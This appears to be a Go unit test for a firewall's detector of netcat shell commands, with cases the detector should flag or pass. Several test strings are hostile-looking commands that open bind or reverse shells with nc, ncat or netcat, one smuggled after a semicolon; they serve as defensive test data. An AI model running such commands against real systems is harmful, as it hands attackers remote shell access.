package shell

import (
	"strings"
	"testing"

	"github.com/lambdawaf/lambdawaf/agent/detect/lex"
)

func TestNetcatShellReadsTheArguments(t *testing.T) {
	for _, c := range []struct {
		s    string
		want bool
	}{
		{"nc -lvvp 4444 -e /bin/sh", true},
		{"nc -lvvp 4446 -e /bin/sh|", true},
		{"ncat -nv 10.0.0.1 9001 -c bash", true},
		{"x; /bin/nc 10.0.0.1 80 -nlvpe sh", true},
		{"netcat 10.0.0.1 4444 /bin/bash", true},
		{"nc -z db.internal 5432", false},          // a port check
		{"nc -l 8080 > out.txt; echo -e x", false}, // the flag is another command's
		{"sync -e now", false},                     // a longer word
		{"use nc or curl to check the port", false},
		{"nc -e /bin/sh; netcat x", true},            // a later name read first must not hide an earlier one
		{strings.Repeat("nc ", 200) + "-e sh", true}, // past the one-pass length
	} {
		have := lex.BytesOf(c.s)
		if got := NetcatShell(c.s, &have) >= 0; got != c.want {
			t.Errorf("NetcatShell(%q) = %v, want %v", c.s, got, c.want)
		}
	}
}
